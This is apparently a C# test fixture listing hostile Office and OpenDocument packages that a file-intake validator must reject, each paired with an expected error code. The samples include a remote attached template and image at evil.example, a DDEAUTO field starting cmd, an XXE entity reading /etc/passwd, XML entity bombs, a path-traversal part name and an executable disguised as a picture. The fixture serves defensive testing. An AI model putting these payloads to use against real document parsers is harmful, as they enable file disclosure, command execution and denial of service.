using Hub.Register.Problems;
using Hub.SampleFiles;

namespace Hub.Rules.Tests.Intake.Files;

/// <summary>Packages of Office that must not be taken.</summary>
internal static class HostilePackages
{
    private const string WordMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

    public static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> All()
    {
        var docx = Package.Docx("A note.").Bytes();
        yield return ("docx with macros", ProblemCode.F11, Package.Docx("x").Part("word/vbaProject.bin", [1]).Bytes());
        yield return ("docm called docx", ProblemCode.F11,
            Package.Docx("x").Types("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml").Bytes());
        yield return ("docx with the type of macros only", ProblemCode.F11,
            Package.Docx("x").Types("/word/document.xml", WordMain,
                """<Override PartName="/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>""").Bytes());
        yield return ("docx with an embedded object", ProblemCode.F11,
            Package.Docx("x").Part("word/embeddings/oleObject1.bin", [1]).Bytes());
        yield return ("docx with ActiveX", ProblemCode.F11, Package.Docx("x").Part("word/activeX/activeX1.xml", "<a/>").Bytes());
        yield return ("docx with a template elsewhere", ProblemCode.F11,
            Package.Docx("x").Part("word/_rels/settings.xml.rels",
                Package.Relations("attachedTemplate", "https://evil.example/t.dotm", "External")).Bytes());
        yield return ("docx with a picture elsewhere", ProblemCode.F11,
            Package.Docx("x").Part("word/_rels/document.xml.rels",
                Package.Relations("image", "https://evil.example/i.png", "External")).Bytes());
        yield return ("docx with a field that starts a program", ProblemCode.F11, Package.Docx("x").Part("word/document.xml",
            """<w:document xmlns:w="urn:w"><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd</w:instrText></w:document>""").Bytes());
        yield return ("xlsx with a link to a program", ProblemCode.F11,
            Package.Xlsx("x").Part("xl/externalLinks/externalLink1.xml", "<a/>").Bytes());
        yield return ("xlsx with old macros", ProblemCode.F11, Package.Xlsx("x").Part("xl/macrosheets/sheet1.xml", "<a/>").Bytes());
        yield return ("docx with a program as picture", ProblemCode.F12,
            Package.Docx("x").Part("word/media/image1.png", "MZ..........."u8.ToArray()).Bytes());
        yield return ("docx with an entity bomb", ProblemCode.F15, Package.Docx("x").Part("word/document.xml", HostileFiles.Bomb).Bytes());
        yield return ("docx with an external entity", ProblemCode.F15,
            Package.Docx("x").Part("word/document.xml", "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w>&x;</w>").Bytes());
        yield return ("docx whose types are a bomb", ProblemCode.F15, Package.Docx("x").Part("[Content_Types].xml", HostileFiles.Bomb).Bytes());
        yield return ("docx with a part of 400 MB", ProblemCode.F15,
            Package.Docx("x").Part("word/media/big.bin", new byte[400_000_000]).Bytes());
        yield return ("docx with XML of 100 MB", ProblemCode.F15,
            Package.Docx("x").Part("word/big.xml", $"<a>{new string(' ', 100_000_000)}</a>").Bytes());
        yield return ("docx with overlapping parts", ProblemCode.F15, Overlapping(Package.Docx("x").Part("b.bin", "12345").Bytes()));
        yield return ("docx with 5000 parts", ProblemCode.F15,
            Enumerable.Range(0, 5000).Aggregate(Package.Docx("x"), (p, i) => p.Again($"p{i}", "")).Bytes());
        yield return ("docx with a password on its parts", ProblemCode.F13, Flagged(docx));
        yield return ("docx with the same part twice", ProblemCode.F16, Package.Docx("x").Again("word/document.xml", "<other/>").Bytes());
        yield return ("docx with a part outside", ProblemCode.F16, Package.Docx("x").Part("../../evil.xml", "<a/>").Bytes());
        yield return ("docx behind a page", ProblemCode.F10, [.. "<html><script>"u8, .. docx]);
        yield return ("docx with bytes behind", ProblemCode.F16, [.. docx, .. "<script>alert(1)</script>"u8]);
        yield return ("docx cut off", ProblemCode.F18, docx[..^30]);
        yield return ("docx with broken XML", ProblemCode.F18, Package.Docx("x").Part("word/document.xml", "<w><w>").Bytes());
        yield return ("pptx", ProblemCode.F10,
            Package.Docx("x").Types("/p.xml",
                "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml").Bytes());
        yield return ("odt with macros", ProblemCode.F11, Package.Odt("x").Part("Basic/Standard/script-lb.xml", "<a/>").Bytes());
        yield return ("odt with a script that listens", ProblemCode.F11,
            Package.Odt("x").Part("content.xml", """<a xmlns:script="urn:s"><script:event-listener/></a>""").Bytes());
        yield return ("odt with a password", ProblemCode.F13,
            Package.Odt("x").Part("META-INF/manifest.xml",
                """<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>""").Bytes());
        yield return ("ods", ProblemCode.F10, new Package().Stored("mimetype", "application/vnd.oasis.opendocument.spreadsheet").Bytes());
        yield return ("zip", ProblemCode.F14, new Package().Part("note.pdf", "x").Bytes());
        yield return ("jar", ProblemCode.F14, new Package().Part("META-INF/MANIFEST.MF", "x").Part("a.class", "x").Bytes());
        yield return ("empty zip", ProblemCode.F14, new Package().Bytes());
        yield return ("epub", ProblemCode.F14, new Package().Stored("mimetype", "application/epub+zip").Bytes());
    }

    // The directory's last entry points at the first one's bytes.
    private static byte[] Overlapping(byte[] zip)
    {
        var copy = zip.ToArray();
        var last = copy.AsSpan().LastIndexOf("PK\u0001\u0002"u8);
        copy.AsSpan(last + 42, 4).Clear();
        return copy;
    }

    private static byte[] Flagged(byte[] zip)
    {
        var copy = zip.ToArray();
        copy[copy.AsSpan().IndexOf("PK\u0001\u0002"u8) + 8] |= 1;
        return copy;
    }
}
